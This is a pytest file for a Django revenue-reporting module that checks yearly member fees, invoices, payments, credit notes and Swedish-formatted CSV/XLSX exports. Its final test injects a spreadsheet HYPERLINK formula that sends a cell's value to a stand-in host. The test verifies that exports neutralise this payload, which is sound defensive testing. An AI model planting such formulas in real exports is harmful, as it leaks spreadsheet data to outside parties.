"""A year's revenue per member: by the rules before invoicing, invoiced net of credits after."""

import csv
import io
from decimal import Decimal

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from hcs.invoices.models import Invoice
from hcs.invoices.services import invoice_credit, invoices_generate, payment_register
from hcs.organisations.models import Organisation
from hcs.reports.exports import revenue_csv, revenue_xlsx
from hcs.reports.queries import revenue

pytestmark = pytest.mark.django_db
TODAY = timezone.localdate()
REVENUE_2024 = Decimal(878050)
HOST_FEE = Decimal(41000)  # Trollhättan, 59 073 inhabitants: an internal transfer


def _revenue():
    return revenue(2024, TODAY)


def _line(report, code):
    [line] = [line for line in report.lines if line.code == code]
    return line


def test_2024_revenue_by_the_rules_is_the_annual_reports(demo):
    report = _revenue()
    assert not report.is_invoiced
    assert report.fees_total == REVENUE_2024
    assert report.total == REVENUE_2024
    assert report.invoiced_total == 0 and report.outstanding_total == 0


def test_a_new_member_in_2024_owes_half_the_region_fee(demo):
    assert _line(_revenue(), "25").fee == 58500 // 2  # Region Norrbotten joined during 2024


def test_invoiced_revenue_is_the_same_and_all_outstanding_but_the_hosts(demo):
    invoices_generate(year=2024, actor="t")
    report = _revenue()
    assert report.is_invoiced
    assert report.invoiced_total == REVENUE_2024
    # Trollhättan hosts the network: its fee is an internal transfer, settled when booked.
    assert report.outstanding_total == REVENUE_2024 - HOST_FEE
    assert report.paid_total == HOST_FEE
    assert report.total == REVENUE_2024


def test_a_payment_lowers_what_is_outstanding(demo):
    invoices_generate(year=2024, actor="t")
    invoice = Invoice.objects.get(organisation__code="25", kind="invoice")
    payment_register(ocr=invoice.ocr, amount=Decimal(10000), paid_on=TODAY, actor="t")
    report = _revenue()
    assert report.paid_total == HOST_FEE + 10000
    assert report.outstanding_total == REVENUE_2024 - HOST_FEE - 10000
    assert report.invoiced_total == REVENUE_2024
    line = _line(report, "25")
    assert (line.paid, line.outstanding) == (10000, 29250 - 10000)


def test_a_credit_note_lowers_what_is_invoiced(demo):
    invoices_generate(year=2024, actor="t")
    invoice = Invoice.objects.get(organisation__code="25", kind="invoice")
    invoice_credit(invoice=invoice, amount=Decimal(5000), reason="Fel belopp", actor="t")
    report = _revenue()
    assert report.invoiced_total == REVENUE_2024 - 5000
    assert report.outstanding_total == REVENUE_2024 - HOST_FEE - 5000
    assert report.total == REVENUE_2024 - 5000
    assert report.fees_total == REVENUE_2024  # the rules did not change
    assert _line(report, "25").invoiced == 29250 - 5000


def test_a_year_without_fees_or_invoices_is_empty(demo):
    report = revenue(1999, TODAY)
    assert report.lines == [] and report.total == 0


def _from_swedish(text):
    return Decimal(text.replace(",", ".")) if text else None


def test_the_csv_opens_in_swedish_excel_and_holds_the_figures(demo):
    invoices_generate(year=2024, actor="t")
    content = revenue_csv(_revenue())
    assert content.startswith(b"\xef\xbb\xbf")  # UTF-8 byte-order mark
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
    header, *members, total = rows
    assert len(header) == 7
    assert len(members) == 20
    assert total[4] == "878050,00"  # decimal comma, no thousands separator
    assert [_from_swedish(cell) for cell in total[3:]] == [
        REVENUE_2024,
        REVENUE_2024,
        HOST_FEE,
        REVENUE_2024 - HOST_FEE,
    ]
    assert sum(_from_swedish(row[4]) for row in members) == REVENUE_2024
    norrbotten = next(row for row in members if row[1] == "25")
    assert "Norrbotten" in norrbotten[0]
    assert _from_swedish(norrbotten[3]) == 29250


def test_the_xlsx_holds_numbers_in_kronor(demo):
    workbook = load_workbook(io.BytesIO(revenue_xlsx(_revenue())))
    sheet = workbook.active
    rows = list(sheet.iter_rows())
    total = rows[-1]
    assert total[3].value == 878050
    assert isinstance(total[3].value, int | float)
    assert "kr" in total[3].number_format
    members = [row for row in rows if row[1].value and row[1].value != rows[3][1].value]
    assert sum(row[3].value for row in members) == 878050


FORMULA = '=HYPERLINK("http://example.com/?x="&A1,"Klicka")'


def test_a_name_that_starts_like_a_formula_is_text_in_the_csv_and_xlsx(demo):
    Organisation.objects.filter(code="1280").update(name=FORMULA)
    report = _revenue()
    rows = list(csv.reader(io.StringIO(revenue_csv(report).decode("utf-8-sig")), delimiter=";"))
    [cell] = [row[0] for row in rows if row[1] == "1280"]
    assert cell == "'" + FORMULA
    sheet = load_workbook(io.BytesIO(revenue_xlsx(report))).active
    [value] = [row[0].value for row in sheet.iter_rows() if row[1].value == "1280"]
    assert value == "'" + FORMULA
